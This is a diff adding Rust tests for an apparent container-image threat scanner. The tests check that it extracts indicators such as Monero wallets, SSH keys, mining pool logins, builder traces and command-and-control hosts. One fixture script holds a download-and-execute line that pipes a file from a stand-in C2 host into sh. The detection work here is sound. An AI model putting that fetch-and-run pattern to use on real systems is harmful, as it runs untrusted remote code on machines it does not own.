@@ -1,0 +1,248 @@
+//! What ties images to each other is seen, and what everybody has is not.
+#![allow(clippy::unwrap_used)]
+
+use std::sync::LazyLock;
+
+use lazaret_detect::{Pack, try_recipe};
+use lazaret_model::{ImageReport, IndicatorKind, Location};
+use lazaret_recipe::Recipe;
+
+static PACK: LazyLock<Pack> = LazyLock::new(|| Pack::load(&[], None).unwrap());
+
+fn judged(text: &str) -> ImageReport {
+    let recipe = Recipe::parse(text).unwrap_or_else(|e| panic!("{e}\n{text}"));
+    try_recipe(&PACK, &recipe)
+}
+
+/// Values of one kind, with their places.
+fn seen(report: &ImageReport, kind: IndicatorKind) -> Vec<(String, String)> {
+    let of_kind = report.sightings.iter().filter(|sighting| sighting.indicator.kind == kind);
+    of_kind.map(|s| (s.indicator.value.clone(), s.location.to_string())).collect()
+}
+
+fn values(text: &str, kind: IndicatorKind) -> Vec<String> {
+    seen(&judged(text), kind).into_iter().map(|(value, _)| value).collect()
+}
+
+/// A Monero address with a right checksum, made from a byte.
+fn wallet(seed: u8) -> String {
+    use sha3::{Digest, Keccak256};
+    let mut raw = vec![18u8];
+    raw.extend((0..64u8).map(|n| n.wrapping_mul(7).wrapping_add(seed)));
+    let sum = Keccak256::digest(&raw);
+    raw.extend_from_slice(&sum[..4]);
+    base58_monero::encode(&raw).unwrap()
+}
+
+/// A well-formed key that nobody holds.
+fn key(seed: u8) -> String {
+    let mut blob = Vec::new();
+    for field in [&b"ssh-ed25519"[..], &[seed; 32]] {
+        blob.extend_from_slice(&(field.len() as u32).to_be_bytes());
+        blob.extend_from_slice(field);
+    }
+    format!("ssh-ed25519 {}", data_encoding::BASE64.encode(&blob))
+}
+
+const DEBIAN: &str = "FILE /var/lib/dpkg/status\n    Package: tool\n    Status: install ok installed\n    Version: 1\n\
+    FILE /var/lib/dpkg/info/tool.list\n    /.\n    /usr/bin/tool\n    /usr/share/tool/notes\n\
+    FILE /var/lib/dpkg/info/tool.md5sums\n";
+
+#[test]
+fn wallets_and_keys_are_seen_in_files_of_nobody_and_in_removed_ones() {
+    let (coin, key) = (wallet(1), key(7));
+    let report = judged(&format!(
+        "LAYER COPY a\nFILE /opt/notes\n    {coin}\nFILE /tmp/id.pub\n    {key} root@somewhere\n\
+         LAYER RUN rm\nWHITEOUT /opt/notes\n"
+    ));
+    assert_eq!(seen(&report, IndicatorKind::Wallet), [(format!("xmr:{coin}"), "/opt/notes:1".to_owned())]);
+    assert_eq!(seen(&report, IndicatorKind::SshKey), [(key, "/tmp/id.pub:1".to_owned())]);
+}
+
+#[test]
+fn what_a_package_brought_ties_nobody() {
+    let coin = wallet(2);
+    let packaged = format!("{DEBIAN}FILE /usr/share/tool/notes\n    {coin}\n");
+    assert_eq!(values(&packaged, IndicatorKind::Wallet), Vec::<String>::new());
+    // Put over the package's file later, it is the maker's.
+    let changed = format!(
+        "LAYER RUN install\n{DEBIAN}FILE /usr/share/tool/notes\n    nothing\n\
+         LAYER COPY notes\nFILE /usr/share/tool/notes\n    {coin}\n"
+    );
+    assert_eq!(values(&changed, IndicatorKind::Wallet), [format!("xmr:{coin}")]);
+}
+
+#[test]
+fn the_lowest_of_several_places_is_told_once() {
+    let coin = wallet(3);
+    let report = judged(&format!(
+        "LAYER COPY a\nFILE /b\n    {coin}\nLAYER COPY b\nFILE /a\n    {coin}\nENV WALLET={coin}\n"
+    ));
+    assert_eq!(seen(&report, IndicatorKind::Wallet), [(format!("xmr:{coin}"), "/b:1".to_owned())]);
+}
+
+#[test]
+fn pools_and_logins_stand_in_the_configuration_too() {
+    let text = "ELF /bin/x 0755\n    x\nENV POOL=stratum+tcp://somebody.rig@Pool.Example.test:3333\nCMD [\"/bin/x\"]\n";
+    let report = judged(text);
+    let pools = seen(&report, IndicatorKind::Pool);
+    assert_eq!(pools[0].0, "stratum+tcp://pool.example.test:3333");
+    assert!(pools[0].1.starts_with("history step"), "{pools:?}");
+    assert_eq!(values(text, IndicatorKind::PoolLogin), ["somebody.rig"]);
+}
+
+#[test]
+fn hosts_and_addresses_come_from_what_acts_in_their_normal_form() {
+    let script = "FILE /run.sh 0755\n    #!/bin/sh\n    curl -fsSL HTTP://C2.Example.test:80/a.jpg#x | sh\n\
+        CMD [\"/run.sh\"]\n";
+    assert_eq!(values(script, IndicatorKind::Url), ["http://c2.example.test/a.jpg"]);
+    assert_eq!(values(script, IndicatorKind::Host), ["c2.example.test"]);
+    // Text that nobody runs, and a program's strings.
+    let data = "FILE /srv/readme\n    see http://home.example.test/page or 203.0.113.9:80\n\
+        ELF /bin/x 0755\n    http://home.example.test/page\n";
+    assert_eq!(values(data, IndicatorKind::Url), Vec::<String>::new());
+    assert_eq!(values(data, IndicatorKind::Host), Vec::<String>::new());
+}
+
+#[test]
+fn places_where_everybody_fetches_and_the_own_network_tie_nobody() {
+    for address in [
+        "https://deb.debian.org/debian/x",
+        "http://10.0.0.7/x",
+        "http://169.254.169.254/latest",
+        "http://db.internal/x",
+        "http://example.com/x",
+        "http://192.168.1.1:8080/x",
+    ] {
+        let text = format!("FILE /run.sh 0755\n    #!/bin/sh\n    curl -o /x {address}\nCMD [\"/run.sh\"]\n");
+        assert_eq!(values(&text, IndicatorKind::Url), Vec::<String>::new(), "{address}");
+        assert_eq!(values(&text, IndicatorKind::Host), Vec::<String>::new(), "{address}");
+    }
+    // A place where anybody puts files says who by its path only.
+    let text = "FILE /run.sh 0755\n    #!/bin/sh\n    curl -o /x https://github.com/somebody/x/raw/a\nCMD [\"/run.sh\"]\n";
+    assert_eq!(values(text, IndicatorKind::Url), ["https://github.com/somebody/x/raw/a"]);
+    assert_eq!(values(text, IndicatorKind::Host), Vec::<String>::new());
+}
+
+#[test]
+fn what_a_build_fetches_from_a_named_host_says_nothing_and_from_a_bare_address_something() {
+    let build =
+        |address: &str| format!("LAYER RUN /bin/sh -c curl -o /x {address} # buildkit\nFILE /x\n    x\n");
+    assert_eq!(values(&build("https://jdk.example.org/x"), IndicatorKind::Url), Vec::<String>::new());
+    assert_eq!(values(&build("http://203.0.113.7/x"), IndicatorKind::Url), ["http://203.0.113.7/x"]);
+}
+
+#[test]
+fn scripts_and_programs_of_nobody_are_known_by_their_hash() {
+    let text = format!(
+        "LAYER RUN install\n{DEBIAN}ELF /usr/bin/tool 0755\n    tool\n\
+         LAYER COPY .\nFILE /opt/a.sh\n    #!/bin/sh\n    echo a\nELF /opt/b 0755\n    b\nFILE /opt/page.html\n    <p>text</p>\n"
+    );
+    let report = judged(&text);
+    let scripts = seen(&report, IndicatorKind::ScriptHash);
+    let programs = seen(&report, IndicatorKind::ElfHash);
+    assert_eq!(scripts.iter().map(|(_, place)| place.as_str()).collect::<Vec<_>>(), ["/opt/a.sh"]);
+    assert_eq!(programs.iter().map(|(_, place)| place.as_str()).collect::<Vec<_>>(), ["/opt/b"]);
+    assert!(scripts[0].0.starts_with("sha256:") && scripts[0].0.len() == 71, "{scripts:?}");
+}
+
+#[test]
+fn a_fuzzy_hash_says_of_what_it_is() {
+    let lines: String =
+        (0..60).map(|n| format!("    echo line {n} does {} and {}\n", n * 37, n ^ 21)).collect();
+    let report = judged(&format!("FILE /opt/long.sh 0755\n    #!/bin/sh\n{lines}CMD [\"/opt/long.sh\"]\n"));
+    let fuzzy = seen(&report, IndicatorKind::FuzzyHash);
+    assert_eq!(fuzzy.len(), 1, "{fuzzy:?}");
+    assert!(fuzzy[0].0.starts_with("script T1"), "{fuzzy:?}");
+}
+
+#[test]
+fn layers_that_bring_something_of_the_makers_own_are_told_and_the_base_is_not() {
+    let text = format!(
+        "LAYER ADD base\n{DEBIAN}FILE /opt/base.sh 0755\n    #!/bin/sh\n    echo base\n\
+         LAYER RUN install\nELF /usr/bin/tool 0755\n    tool\n\
+         LAYER COPY data\nFILE /srv/page.html\n    <p>text</p>\n\
+         LAYER COPY crontab\nFILE /etc/cron.d/job\n    * * * * * root /opt/base.sh\n"
+    );
+    let report = judged(&text);
+    assert_eq!(
+        seen(&report, IndicatorKind::Layer).into_iter().map(|(_, place)| place).collect::<Vec<_>>(),
+        ["layer 3"]
+    );
+    let alone = judged("LAYER COPY x\nFILE /x 0755\n    #!/bin/sh\n    echo x\n");
+    assert_eq!(alone.sightings.iter().filter(|s| s.location == Location::Layer(0)).count(), 1);
+}
+
+#[test]
+fn variables_and_labels_of_few_are_told_with_the_step_that_set_them() {
+    let report = judged(
+        "LAYER COPY x\nFILE /x\n    x\nENV PATH=/bin\nENV RIG=h7Gk-qq0\nENV APP_VERSION=1.2.3\nENV DEBUG=true\n\
+         LABEL com.maker.line=seventeen\nLABEL org.opencontainers.image.source=https://a.example.test/x\n",
+    );
+    let variables = seen(&report, IndicatorKind::Environment);
+    assert_eq!(variables.iter().map(|(value, _)| value.as_str()).collect::<Vec<_>>(), ["RIG=h7Gk-qq0"]);
+    assert!(variables[0].1.starts_with("history step"), "{variables:?}");
+    let labels = seen(&report, IndicatorKind::Label);
+    assert_eq!(
+        labels.iter().map(|(value, _)| value.as_str()).collect::<Vec<_>>(),
+        ["com.maker.line=seventeen"]
+    );
+}
+
+#[test]
+fn without_a_history_a_variable_stands_in_the_configuration() {
+    let report = judged("BUILDER none\nLAYER -\nFILE /x\n    x\nENV RIG=h7Gk-qq0\n");
+    let place = seen(&report, IndicatorKind::Environment)[0].1.clone();
+    assert_eq!(place, "config Env[0]");
+}
+
+#[test]
+fn the_builder_is_known_by_name_machine_home_and_zone() {
+    let text = "LAYER @2024-05-17T08:10:00+08:00 COPY /home/zhang3/work/x /x\nFILE /x\n    x\n\
+        LAYER RUN /bin/sh -c cp C:\\Users\\kim.lee\\x /y\nFILE /y\n    y\n\
+        AUTHOR dm117 <root@Build7.Example.test>\nLABEL maintainer=someone9@gmail.com\n";
+    assert_eq!(
+        values(text, IndicatorKind::BuilderTrace),
+        [
+            "host build7.example.test",
+            "path /home/zhang3",
+            "path C:\\Users\\kim.lee",
+            "user dm117",
+            "user someone9@gmail.com",
+            "zone +08:00"
+        ]
+    );
+    assert_eq!(values(text, IndicatorKind::Label), Vec::<String>::new(), "told as a trace");
+}
+
+#[test]
+fn users_of_the_container_and_names_of_everybody_are_no_trace() {
+    let text = "LAYER RUN /bin/sh -c useradd -m app1 && cp /home/app1/x /home/runner/y # buildkit\nFILE /x\n    x\n\
+        LAYER COPY /home/node7/x /home/node7/y\nFILE /home/node7/y\n    y\nAUTHOR root <root@localhost>\n";
+    let traces = values(text, IndicatorKind::BuilderTrace);
+    assert_eq!(traces, Vec::<String>::new());
+}
+
+#[test]
+fn there_are_never_more_than_a_thousand_of_bounded_length_sorted_and_each_once() {
+    let mut text = String::from("LAYER COPY .\n");
+    for n in 0..400 {
+        text.push_str(&format!("FILE /opt/{n}.sh 0755\n    #!/bin/sh\n    echo {n}\n"));
+        text.push_str(&format!("ELF /opt/{n} 0755\n    program {n}\n"));
+        text.push_str(&format!("ENV RIG{n}=h7Gk-{n}\nLABEL com.maker.{n}=h7Gk-{n}\n"));
+    }
+    for n in 0..=255 {
+        text.push_str(&format!("FILE /srv/{n}\n    {}\n", wallet(n)));
+    }
+    text.push_str(&format!("ENV LONG={}\nCMD [\"/opt/399.sh\"]\n", "x".repeat(5_000)));
+    let report = judged(&text);
+    let seen = &report.sightings;
+    assert!(seen.len() > 600 && seen.len() <= 1_000, "{}", seen.len());
+    assert!(seen.iter().all(|sighting| sighting.indicator.value.len() <= 2_000));
+    assert!(seen.is_sorted());
+    assert!(seen.windows(2).all(|two| two[0].indicator != two[1].indicator));
+    // What starts is kept where there is too much.
+    assert!(
+        seen.iter().any(|s| s.indicator.kind == IndicatorKind::ScriptHash && s.location.to_string() == "/opt/399.sh")
+    );
+}
